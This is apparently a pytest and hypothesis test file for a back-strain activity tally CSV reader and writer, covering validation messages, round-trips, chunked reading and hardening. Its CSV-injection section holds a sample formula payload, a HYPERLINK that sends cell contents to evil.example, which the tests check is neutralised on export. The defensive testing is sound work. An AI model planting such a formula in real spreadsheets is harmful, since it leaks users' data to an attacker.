"""Reading and writing the tally CSV: strict, whole-file validation with line numbers."""

import csv
import io
from datetime import date

import pandas
import pandas.testing
import pytest
from hypothesis import event, given, settings
from hypothesis import strategies as st

from strain.domain import fields as field_texts
from strain.domain import frames, tally, tally_reader
from strain.domain.tally import TallyError
from tests.strategies import CAT, entries, frame_of, within_a_day

HEADER = ",".join(tally.HEADER)


def errors_of(text: str) -> list[str]:
    with pytest.raises(TallyError) as error:
        tally_reader.read_csv(text, CAT)
    return [str(e) for e in error.value.errors]


def test_a_good_file_reads_into_typed_entries_with_line_numbers():
    frame = tally_reader.read_csv(
        f"{HEADER}\n2026-11-20,child_lift,3,Controlled,12.5,yes,,into the car\n\n2026-11-21,socks_shoes,2,,,no,yes,\n",
        CAT,
    )
    assert frame.to_dict("records") == [
        {
            "date": date(2026, 11, 20),
            "activity": "child_lift",
            "quantity": 3.0,
            "technique": "controlled",
            "load_kg": 12.5,
            "twist": True,
            "first_hour": False,
            "note": "into the car",
            "line": 2,
        },
        {
            "date": date(2026, 11, 21),
            "activity": "socks_shoes",
            "quantity": 2.0,
            "technique": "uncontrolled",
            "load_kg": 0.0,
            "twist": False,
            "first_hour": True,
            "note": "",
            "line": 4,
        },
    ]


def test_a_header_only_file_has_no_entries_and_a_bom_is_ignored():
    assert tally_reader.read_csv("\ufeff" + HEADER + "\n", CAT).empty


def test_every_bad_row_is_listed_with_its_line_and_reason():
    text = "\n".join(
        [
            HEADER,
            "2026-11-20,sit_down_chair,4,,,,,",
            "20261120,sit_down_chair,4,,,,,",
            "2026-02-30,sit_down_chair,4,,,,,",
            "2026-11-20,yoga,4,,,,,",
            "2026-11-20,sit_down_chair,-1,,,,,",
            "2026-11-20,sit_down_chair,lots,,,,,",
            "2026-11-20,sit_down_chair,4,sloppy,,,,",
            "2026-11-20,child_lift,4,,-3,,,",
            "2026-11-20,child_lift,4,,,maybe,sometimes,",
            "2026-11-20,hunched_sitting,2000,,,,,",
            "2026-11-20,sit_down_chair",
            '2026-11-20,sit_down_chair,nan,,,,,"a, quoted',
            'multi-line note"',
            "2026-11-20,sit_down_chair,inf,,,,,",
            "2026-11-20,sit_down_chair,1_000,,,,,",
            "2999-01-01,sit_down_chair,1e999,,,,,",
            "2026-11-20,sit_down_chair,1,,,,,bad\x00note",
        ]
    )
    assert errors_of(text) == [
        "line 3: date must be YYYY-MM-DD, got '20261120'",
        "line 4: date '2026-02-30' does not exist",
        "line 5: unknown activity 'yoga'",
        "line 6: quantity must be >= 0, got -1",
        "line 7: quantity must be a number, got 'lots'",
        "line 8: technique must be controlled, uncontrolled or empty, got 'sloppy'",
        "line 9: load_kg must be >= 0, got -3",
        "line 10: twist must be yes, no or empty, got 'maybe'",
        "line 10: first_hour must be yes, no or empty, got 'sometimes'",
        "line 11: quantity must be at most 1440 minutes a day, got 2000",
        "line 12: expected 8 fields, got 2",
        "line 13: quantity must be a number, got 'nan'",
        "line 15: quantity must be a number, got 'inf'",
        "line 16: quantity must be a number, got '1_000'",
        "line 17: date 2999-01-01 is in the future",
        "line 17: quantity must be a finite number, got '1e999'",
        "line 18: note contains a control character (only tabs and line breaks are allowed)",
    ]


@pytest.mark.parametrize(
    "header", ["", "date,activity,quantity", "date,activity,quantity,technique,load,twist,first_hour,note"]
)
def test_a_wrong_header_is_reported_on_line_1(header):
    [message] = errors_of(header + "\n2026-11-20,sit_down_chair,4,,,,,\n")
    assert message.startswith("line 1: ") and HEADER in message


@given(st.lists(entries, max_size=20).map(within_a_day))
def test_write_then_read_gives_the_same_entries(rows):
    frame = frame_of(rows).sort_values("date", kind="stable").reset_index(drop=True)
    back = tally_reader.read_csv(tally.write_csv(frame), CAT)
    columns = list(tally.HEADER)
    assert back[columns].to_dict("records") == frame[columns].to_dict("records")


# --- The day's pain and note (optional columns pain, day_note) ----------------------------------

DAY_HEADER = HEADER + ",pain,day_note"


def test_pain_and_the_days_note_are_read_per_day_and_a_row_may_give_only_its_day():
    found = tally_reader.read(
        f"{DAY_HEADER}\n2026-11-20,sit_down_chair,4,,,,,,3,long drive\n2026-11-20,weeding,30,,,,,,3,long drive\n"
        "2026-11-21,,,,,,,,7,stayed in bed\n2026-11-19,socks_shoes,2,,,,,,,\n",
        CAT,
    )
    assert found.entries["activity"].tolist() == ["sit_down_chair", "weeding", "socks_shoes"]
    assert found.days.to_dict("records") == [
        {"date": date(2026, 11, 19), "pain": None, "note": ""},
        {"date": date(2026, 11, 20), "pain": 3, "note": "long drive"},
        {"date": date(2026, 11, 21), "pain": 7, "note": "stayed in bed"},
    ]


@pytest.mark.parametrize(
    ("header", "values", "day_columns"),
    [
        ("", "", []),
        (",pain", ",5", ["pain"]),
        (",day_note", ",ok", ["note"]),
        (",pain,day_note", ",5,ok", ["pain", "note"]),
    ],
)
def test_either_day_column_may_be_left_out(header, values, day_columns):
    found = tally_reader.read(f"{HEADER}{header}\n2026-11-20,sit_down_chair,4,,,,,{values}\n", CAT)
    assert list(found.days.columns) == ["date", *day_columns]
    assert len(found.entries) == 1


def test_rows_of_one_day_that_disagree_reject_the_file_naming_both_lines():
    text = (
        f"{DAY_HEADER}\n2026-11-20,sit_down_chair,4,,,,,,3,\n2026-11-21,weeding,30,,,,,,,\n"
        "2026-11-20,weeding,30,,,,,,4,\n2026-11-20,socks_shoes,1,,,,,,3,tired\n2026-11-21,,,,,,,,,\n"
    )
    expected = [
        "line 4: pain 4 differs from 3 on line 2: every row of 2026-11-20 must give the same pain",
        "line 5: day_note 'tired' differs from '' on line 2: every row of 2026-11-20 must give the same day_note",
    ]
    assert errors_of(text) == expected
    with pytest.raises(TallyError) as exact:
        tally_reader.read_csv_exact(text, CAT)
    assert [str(e) for e in exact.value.errors] == expected


def test_a_pain_given_after_a_row_without_one_is_a_disagreement_not_a_crash():
    text = f"{DAY_HEADER}\n2026-11-20,sit_down_chair,3,,,,,,,\n2026-11-20,,,,,,,,3,\n"
    expected = ["line 3: pain 3 differs from empty on line 2: every row of 2026-11-20 must give the same pain"]
    assert errors_of(text) == expected
    with pytest.raises(TallyError) as exact:
        tally_reader.read_csv_exact(text, CAT)
    assert [str(e) for e in exact.value.errors] == expected


def test_bad_pains_and_day_notes_are_listed_with_the_other_bad_rows():
    text = (
        f"{DAY_HEADER}\n2026-11-20,sit_down_chair,4,,,,,,11,\n2026-11-21,,,,,,,,2.5,\n2026-11-22,yoga,1,,,,,,,a\x00\n"
    )
    assert errors_of(text) == [
        "line 2: pain must be a whole number from 0 to 10 or empty, got '11'",
        "line 3: pain must be a whole number from 0 to 10 or empty, got '2.5'",
        "line 4: unknown activity 'yoga'",
        "line 4: day_note contains a control character (only tabs and line breaks are allowed)",
    ]


def test_a_row_with_only_a_date_needs_the_day_columns():
    assert errors_of(f"{HEADER}\n2026-11-20,,,,,,,\n") == [
        "line 2: activity is empty",
        "line 2: quantity must be a number, got ''",
    ]


@pytest.mark.parametrize("extra", [",day_note,pain", ",pain,pain", ",mood", ",pain,day_note,mood"])
def test_day_columns_come_after_the_fixed_ones_in_their_order(extra):
    [message] = errors_of(f"{HEADER}{extra}\n")
    assert message.startswith("line 1: header must be") and "pain and day_note" in message


day_values = st.fixed_dictionaries(
    {"pain": st.one_of(st.none(), st.integers(0, 10)), "note": entries.map(lambda entry: entry["note"])}
)


@given(
    st.lists(entries, max_size=20).map(within_a_day),
    st.dictionaries(entries.map(lambda entry: entry["date"]), day_values),
)
def test_write_then_read_gives_the_same_entries_and_days(rows, extra_days):
    frame = frame_of(rows).sort_values("date", kind="stable").reset_index(drop=True)
    dates = sorted(set(frame["date"]) | set(extra_days))
    values = [extra_days.get(day, {"pain": None, "note": ""}) for day in dates]
    days = pandas.DataFrame(
        {
            "date": dates,
            "pain": pandas.array([v["pain"] for v in values], dtype="Int64"),
            "note": [v["note"] for v in values],
        }
    ).astype({"date": "object", "note": "object"})
    back = tally_reader.read(tally.write_csv(frame, days), CAT)
    columns = list(tally.HEADER)
    assert back.entries[columns].to_dict("records") == frame[columns].to_dict("records")
    pandas.testing.assert_frame_equal(back.days, days)


@pytest.mark.parametrize("reader", [tally_reader.read_csv_fast, tally_reader.read_csv_exact])
def test_a_day_with_and_without_a_pain_is_refused_saying_which_is_empty(reader):
    # Found by the hypothesis test below: pandas 3.1 turned the "not given" marker into "" and then crashed.
    text = f"{DAY_HEADER}\n2026-11-20,,,,,,,,,\n2026-11-20,,,,,,,,3,\n"
    with pytest.raises(TallyError) as refused:
        reader(text, CAT)
    assert [str(error) for error in refused.value.errors] == [
        "line 3: pain 3 differs from empty on line 2: every row of 2026-11-20 must give the same pain"
    ]


# --- CSV injection: text cells that a spreadsheet would take for a formula -----------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# Texts that start like a formula or with a quote are the interesting ones: draw them often.
TEXTS = st.one_of(
    st.text(st.characters(codec="utf-8").filter(lambda c: not tally.CONTROL_CHARACTERS.match(c)), max_size=12),
    st.tuples(
        st.text(st.sampled_from(["'", *tally.FORMULA_STARTS]), min_size=1, max_size=3),
        st.text(st.sampled_from(list("a1'=-+@ \t\r\n\"")), max_size=6),
    ).map("".join),
)


def sitting_down(note: str) -> dict:
    return {
        **dict(date=date(2026, 11, 20), activity="sit_down_chair", quantity=1.0, technique="uncontrolled"),
        **dict(load_kg=0.0, twist=False, first_hour=False, note=note, line=2),
    }


def cells(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text, newline="")))


def as_read(text: str) -> str:
    """A text as the command line reads it from a file: line ends as a text editor sees them."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_export_neutralises_a_formula_in_a_note_and_import_gives_the_note_back_as_typed():
    frame = frame_of([sitting_down(FORMULA)])
    days = pandas.DataFrame({"date": [date(2026, 11, 20)], "pain": pandas.array([2], dtype="Int64"), "note": ["-3 km"]})
    days = days.astype({"date": "object", "note": "object"})
    written = tally.write_csv(frame, days)
    [_, row] = cells(written)
    assert row[7] == "'" + FORMULA and row[9] == "'-3 km"  # a spreadsheet shows them as text
    assert row[2] == "1" and row[8] == "2"  # numbers stay numbers
    back = tally_reader.read(written, CAT)
    assert back.entries["note"].tolist() == [FORMULA] and back.days["note"].tolist() == ["-3 km"]


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("@home", "'@home"),
        ("\tindented", "'\tindented"),
        ("'=1+1", "''=1+1"),  # a note that really starts with a quote and =: the quote is doubled
        ("''", "'''"),
        ("'\nx", "''\nx"),
        ("\nx", "\nx"),
        ("'tis the season", "'tis the season"),  # a quote before anything else is left alone
        ("'", "'"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_the_quote_rule_is_unambiguous(typed, written):
    assert tally.spreadsheet_safe(typed) == written
    assert tally.from_spreadsheet(written) == typed


def test_a_hand_written_note_starting_with_a_quote_and_a_formula_character_loses_that_quote():
    found = tally_reader.read(
        f"{HEADER}\n2026-11-20,sit_down_chair,1,,,,,'-5 degrees\n2026-11-20,weeding,5,,,,,'tis\n", CAT
    )
    assert found.entries["note"].tolist() == ["-5 degrees", "'tis"]


@settings(max_examples=150)
@given(st.lists(TEXTS, min_size=1, max_size=6), TEXTS)
def test_every_text_round_trips_and_no_exported_text_cell_starts_like_a_formula(notes, day_note):
    rows = [sitting_down(note) for note in notes]
    days = pandas.DataFrame({"date": [date(2026, 11, 20)], "pain": pandas.array([None], dtype="Int64")})
    days = days.assign(note=[day_note]).astype({"date": "object", "note": "object"})
    written = tally.write_csv(frame_of(rows), days)
    for row in cells(written)[1:]:
        assert not row[7].startswith(tally.FORMULA_STARTS) and not row[9].startswith(tally.FORMULA_STARTS)
    back = tally_reader.read(written, CAT)  # the text itself, carriage returns kept
    assert back.entries["note"].tolist() == notes and back.days["note"].tolist() == [day_note]
    from_file = tally_reader.read(as_read(written), CAT)  # as the command line reads it
    assert from_file.entries["note"].tolist() == [as_read(note) for note in notes]
    assert from_file.days["note"].tolist() == [as_read(day_note)]


# --- The fast reader (pandas) and the exact one (csv module) give the same verdict ---------------

# Values a field may hold: the good ones first (drawn more often), then the bad and the odd ones.
DATES = (["2026-11-20", " 2026-11-21 "], ["2026-02-30", "20261120", "2999-01-01", "0000-01-01", "\uff12026-11-20", ""])
ACTIVITIES = (["sit_down_chair", " child_lift ", "hunched_sitting"], ["yoga", "SIT_DOWN_CHAIR", ""])
NUMBERS = (["3", "2.5", " 4 ", "0", "-0", ".5", "5.", "+2", "1e3", "1440"], ["1441", "6000", "1e999", "-1", "1_000"])
NUMBERS[1].extend(["nan", "inf", "\uff11", "0x10", "", "lots"])
TECHNIQUES = (["", "controlled", " Controlled ", "uncontrolled"], ["sloppy"])
LOADS = (["", "0", "12.5", " 3 "], ["-3", "201", "nan"])
FLAGS = (["", "yes", "no", " YES "], ["maybe"])
NOTE_CHARACTERS = st.sampled_from(list("ab \u00e9,,\"\"\t\x00\x1b\x7f\x85\u2028\ufeff''=-"))
NOTES = st.one_of(
    st.text(NOTE_CHARACTERS, max_size=8),
    st.sampled_from(['"abc"def', 'a"b', "x" * 501, "  ", "two\nlines", "cr\ronly", "crlf\r\n"]),
)


def values(good: list[str], bad: list[str]) -> st.SearchStrategy[str]:
    return st.one_of(*[st.sampled_from(good)] * 12, st.sampled_from(bad))


@st.composite
def fields(draw, texts: st.SearchStrategy[str]) -> str:
    """A field as a CSV file may hold it: plain or quoted with doubled quotes, and sometimes malformed."""
    text = draw(texts)
    needs_quotes = any(c in text for c in ',"\n\r')
    if draw(st.sampled_from([needs_quotes] * 3 + [not needs_quotes])):
        return '"' + text.replace('"', '""') + '"'
    return text


# A day's pain and note: a few values, so that rows of one day often agree and sometimes do not.
PAINS = (["", "3", " 4 "], ["11", "-1", "2.5", "x"])
DAY_NOTES = (["", "tired"], ["a\x00b", "y" * 501])


@st.composite
def csv_texts(draw) -> str:
    """Tally CSV texts: half of them tidy (one row per line, one field per column), the others anything goes."""
    tidy = draw(st.booleans())
    day_columns = draw(st.sampled_from([(), ("pain",), ("day_note",), ("pain", "day_note")]))
    notes = NOTES.filter(lambda note: "\n" not in note and "\r" not in note) if tidy else NOTES
    day_fields = [fields(values(*PAINS)) if name == "pain" else fields(values(*DAY_NOTES)) for name in day_columns]
    row = st.tuples(
        fields(values(*DATES)),
        fields(values(*ACTIVITIES)),
        fields(values(*NUMBERS)),
        fields(values(*TECHNIQUES)),
        fields(values(*LOADS)),
        fields(values(*FLAGS)),
        fields(values(*FLAGS)),
        fields(st.one_of(st.just(""), st.just("a note"), notes)),
        *day_fields,
    )
    day_only = st.tuples(fields(values(*DATES)), *day_fields).map(lambda r: ",".join([r[0], *[""] * 7, *r[1:]]))
    width = 8 + len(day_columns)
    blank = st.sampled_from(["", " ", "," * (width - 1), '"",'])
    short_or_long = st.one_of(row.map(lambda r: ",".join(r[:-1])), row.map(lambda r: ",".join(r) + ",x"))
    rows = [*[row.map(",".join)] * 6, day_only]
    line = st.one_of(*rows, blank) if tidy else st.one_of(*rows, short_or_long, blank)
    lines = draw(st.lists(line, max_size=8))
    full = HEADER + "".join("," + name for name in day_columns)
    header = draw(st.sampled_from([full, full.upper(), "\ufeff" + full, " date ," + full[5:]]))
    end = "\n" if tidy else draw(st.sampled_from(["\n", "\r\n", "\r"]))
    return end.join([header, *lines]) + draw(st.sampled_from(["", end]))


def verdict(read, text: str):
    """("ok", tally) or ("bad", messages); None when the fast reader leaves the file to the exact one."""
    try:
        found = read(text, CAT)
    except TallyError as error:
        return "bad", [str(e) for e in error.errors]
    return None if found is None else ("ok", found)


@settings(max_examples=400)
@given(csv_texts())
def test_the_fast_reader_agrees_with_the_exact_one(text):
    fast = verdict(tally_reader.read_csv_fast, text)
    event("fast" if fast else "left to the exact reader")
    if fast is None:
        return
    exact = verdict(tally_reader.read_csv_exact, text)
    assert fast[0] == exact[0], (fast, exact)
    if fast[0] == "ok":
        pandas.testing.assert_frame_equal(fast[1].entries, exact[1].entries, check_exact=True)
        pandas.testing.assert_frame_equal(fast[1].days, exact[1].days, check_exact=True)
    else:
        assert fast[1] == exact[1]


def test_a_plain_file_does_not_need_the_row_by_row_reader(monkeypatch):
    def refuse(text, catalogue):
        raise AssertionError("the exact reader was used")

    monkeypatch.setattr(tally_reader, "read_csv_exact", refuse)
    text = f'{HEADER}\n2026-11-20,child_lift,3,controlled,12.5,yes,,"into the car, twice"\n\n'
    text += "2026-11-21,socks_shoes,2,,,no,yes,\n"
    assert tally_reader.read_csv(text, CAT)["line"].tolist() == [2, 4]
    assert errors_of(f"{HEADER}\n2026-11-20,yoga,1,,,,,\n2026-11-20,sit_down_chair,-1,,,,,\n") == [
        "line 2: unknown activity 'yoga'",
        "line 3: quantity must be >= 0, got -1",
    ]


# --- Hardening -------------------------------------------------------------------------------------


@pytest.mark.parametrize("ending", ["", "\n"])
def test_a_quote_never_closed_is_refused_not_read_as_a_note(ending):
    text = f'{HEADER}\n2026-11-20,sit_down_chair,1,,,,,ok\n2026-11-20,sit_down_chair,1,,,,,"open note\nmore{ending}'
    assert errors_of(text) == ["line 3: cannot read the row: a quoted field is not closed before the end of the file"]


def test_messages_shorten_long_values_and_escape_control_characters():
    messages = errors_of(f"{HEADER}\n2026-11-20,{'y' * 100_000},1,\x1b[2J,,,,\n")
    assert len(messages) == 2 and all(len(m) < 200 for m in messages)
    assert "100,000 characters" in messages[0]
    assert "\x1b" not in messages[1] and "\\x1b[2J" in messages[1]
    [header] = errors_of("x" * 100_000 + "\n")
    assert header.startswith("line 1: header must be") and len(header) < 300


def test_quoted_shows_short_values_as_python_does():
    assert field_texts.quoted("yoga") == "'yoga'"
    assert field_texts.quoted("a\nb") == "'a\\nb'"


# --- Reading a chunk at a time, and long lists of errors -------------------------------------------


@settings(max_examples=300)
@given(csv_texts(), st.integers(1, 4))
def test_reading_in_small_chunks_gives_the_exact_readers_verdict(text, chunk_lines):
    exact = verdict(tally_reader.read_csv_exact, text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(tally_reader, "CHUNK_LINES", chunk_lines)
        patch.setattr(tally_reader, "PIECE_BYTES", 7)  # pieces that end anywhere in a line
        chunked = verdict(tally_reader.read, text)
    assert chunked[0] == exact[0], (chunked, exact)
    if exact[0] == "ok":
        pandas.testing.assert_frame_equal(chunked[1].entries, exact[1].entries, check_exact=True)
        pandas.testing.assert_frame_equal(chunked[1].days, exact[1].days, check_exact=True)
    else:
        assert chunked[1] == exact[1]


def test_a_quoted_note_over_a_chunks_end_is_read_on_into_the_next(monkeypatch):
    monkeypatch.setattr(tally_reader, "CHUNK_LINES", 2)
    text = f'{HEADER}\n2026-11-20,weeding,5,,,,,"one\ntwo\nthree"\n2026-11-20,sit_down_chair,1,,,,,\n\n'
    text += "2026-11-21,sit_down_chair,2,,,,,\n2026-11-21,yoga,1,,,,,\n"
    with pytest.raises(TallyError) as error:
        tally_reader.read(text, CAT)
    assert [str(e) for e in error.value.errors] == ["line 8: unknown activity 'yoga'"]
    found = tally_reader.read(text.replace("yoga", "weeding"), CAT)
    assert found.entries["line"].tolist() == [2, 5, 7, 8] and found.entries["note"].iat[0] == "one\ntwo\nthree"


@pytest.mark.parametrize("read", [tally_reader.read, tally_reader.read_csv_exact])
def test_the_first_100_errors_are_listed_and_the_rest_counted(read):
    text = HEADER + "\n" + "2026-11-20,yoga,x,,,,,\n" * 300 + "2026-11-20,sit_down_chair,1.5,,,,,\n"
    with pytest.raises(TallyError) as error:
        read(text, CAT)
    assert len(error.value.errors) == 100 and error.value.more == 2 * 300 + 1 - 100
    assert [str(e) for e in error.value.errors[:2]] == [
        "line 2: unknown activity 'yoga'",
        "line 2: quantity must be a number, got 'x'",
    ]
    assert error.value.messages()[-1] == "... and 501 more errors"


def test_a_line_longer_than_a_chunk_is_refused_in_one_message(monkeypatch):
    monkeypatch.setattr(tally_reader, "MAX_LINE_BYTES", 1000)
    monkeypatch.setattr(tally_reader, "CHUNK_BYTES", 1000)
    monkeypatch.setattr(tally_reader, "PIECE_BYTES", 100)
    text = f"{HEADER}\n2026-11-20,yoga,1,,,,,\n" + "x," * 5000 + "\n2026-11-20,sit_down_chair,1,,,,,\n"
    assert errors_of(text) == [
        "line 2: unknown activity 'yoga'",
        "line 3: the line is longer than 1,000 bytes: not a tally row",
    ]


@given(st.lists(entries, min_size=1, max_size=30))
def test_a_frame_made_column_by_column_is_the_frame_typed_whole(rows: list[dict]) -> None:
    """A day read from the database (from_columns) is the same frame as the same rows typed whole (typed, as a
    file's are): the same values, of the same types, so that the model scores both alike."""
    columns = {column: [row[column] for row in rows] for column in tally.HEADER}
    typed_whole = tally.typed(pandas.DataFrame(rows, columns=list(tally.HEADER)))
    pandas.testing.assert_frame_equal(tally.from_columns(columns), typed_whole)


@given(st.lists(entries, max_size=30))
def test_a_frames_records_are_its_rows_as_pandas_gives_them(rows: list[dict]) -> None:
    """frames.records (what the model scores a day from) is pandas' to_dict("records"), empty day included."""
    frame = tally.typed(pandas.DataFrame(rows, columns=list(tally.HEADER)))
    ours, pandas_own = frames.records(frame), frame.to_dict("records")
    assert ours == pandas_own
    assert [{name: type(value) for name, value in row.items()} for row in ours] == [
        {name: type(value) for name, value in row.items()} for row in pandas_own
    ]
